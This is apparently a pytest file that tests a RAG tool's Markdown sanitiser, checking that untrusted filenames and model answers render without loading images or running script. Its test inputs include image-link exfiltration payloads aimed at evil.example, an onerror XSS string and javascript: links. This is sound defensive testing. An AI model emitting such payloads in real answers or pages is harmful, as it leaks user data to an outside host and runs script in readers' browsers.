"""Untrusted strings into Markdown, and model answers that render without loading anything."""

import re

import pytest

from rag.markdown import StreamGuard, cell, code, plain, safe_answer


@pytest.mark.parametrize(
    "name",
    ["report`.md", "x``y.md", "`start.md", "![i](http://h/leak).md", "<img src=x onerror=alert(1)>.md",
     "[click](javascript:alert(1)).md", "two\nlines.md", "a|b.md"],
)
def test_a_code_span_holds_any_name_whole(name: str) -> None:
    span = code(name)
    width = len(span) - len(span.lstrip("`"))
    inner = span[width:-width]
    assert span.endswith("`" * width) and "\n" not in span
    assert all(len(run) != width for run in re.findall("`+", inner))  # nothing inside closes the span
    assert inner.strip() == " ".join(name.split())  # the name itself, on one line


def test_plain_text_cannot_start_markup() -> None:
    assert plain("![i](http://h/x) **b** <img> [l](u) `c` a|b") == \
        "\\!\\[i\\]\\(http://h/x\\) \\*\\*b\\*\\* \\<img\\> \\[l\\]\\(u\\) \\`c\\` a\\|b"
    assert cell("skipped: x|y\nz") == "skipped: x\\|y z"
    assert plain("zero\u200bwidth") == "zerowidth"


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See ![chart](http://evil.example/leak?d=secret).", "See [image not loaded: chart] (<http://evil.example/leak?d=secret>)."),
        ("![](https://x.test/p.png)", "[image not loaded: untitled] (<https://x.test/p.png>)"),
        ('![a](http://x.test/a.png "title")', "[image not loaded: a] (<http://x.test/a.png>)"),
        ("Read [the guide](https://example.com/guide) [1].", "Read the guide (<https://example.com/guide>) [1]."),
        ("[https://a.test/](https://a.test/)", "<https://a.test/>"),
        ("[click](javascript:alert(1))", "click (`javascript:alert(1`))"),
        ("![x][ref]\n\n[ref]: http://evil.example/leak", "!\\[x][ref]\n\n\\[ref\\]: http://evil.example/leak"),
        ("<img src=http://evil.example/leak>", "&lt;img src=http://evil.example/leak>"),
        ("Ports [1][2] and x < 3.", "Ports [1][2] and x < 3."),
        ("11434.", "11434\\."),  # not an empty ordered-list item that renders as nothing
        ("1. first\n2. second", "1. first\n2. second"),  # real lists stay lists
        ("Use `![x](http://a.test/y)` in code.", "Use `![x](http://a.test/y)` in code."),
        ("```md\n![x](http://a.test/y)\n```\nthen ![z](http://b.test/z)",
         "```md\n![x](http://a.test/y)\n```\nthen [image not loaded: z] (<http://b.test/z>)"),
    ],
)
def test_answers_load_nothing_and_links_show_where_they_go(answer: str, shown: str) -> None:
    assert safe_answer(answer) == shown


def test_the_stream_guard_never_lets_an_image_through_even_split_across_pieces() -> None:
    guard = StreamGuard()
    pieces = ["Look: !", "[x](http://evil.example/a) and ", "!", "!", "[y](u) done!"]
    streamed = "".join(guard.feed(p) for p in pieces) + guard.flush()
    assert "![" not in streamed
    assert streamed == "Look: !\\[x](http://evil.example/a) and !!\\[y](u) done!"


def test_citations_become_links_to_their_sources_outside_code() -> None:
    from rag.markdown import link_citations

    text = "Port 11434 [1], see also [2] and [7]; `list[1]` stays."
    assert link_citations(text, 2, "source-m") == (
        "Port 11434 [\\[1\\]](#source-m-1), see also [\\[2\\]](#source-m-2) and [7]; `list[1]` stays.")


def test_unwrap_joins_hard_wrapped_prose_and_leaves_blocks_alone() -> None:
    from rag.markdown import safe_answer, unwrap

    text = "# Title\nline one\nline two\n\n- item a\n  more a\n- item b\n\n```\ncode 1\ncode 2\n```\n| a | b |\n| c | d |"
    assert unwrap(text) == ("# Title\nline one line two\n\n- item a more a\n- item b\n\n```\ncode 1\ncode 2\n```\n"
                            "| a | b |\n| c | d |")
    assert safe_answer(unwrap("a\n```py\nx\n```")) == "a\n```py\nx\n```"  # fences still recognised after it
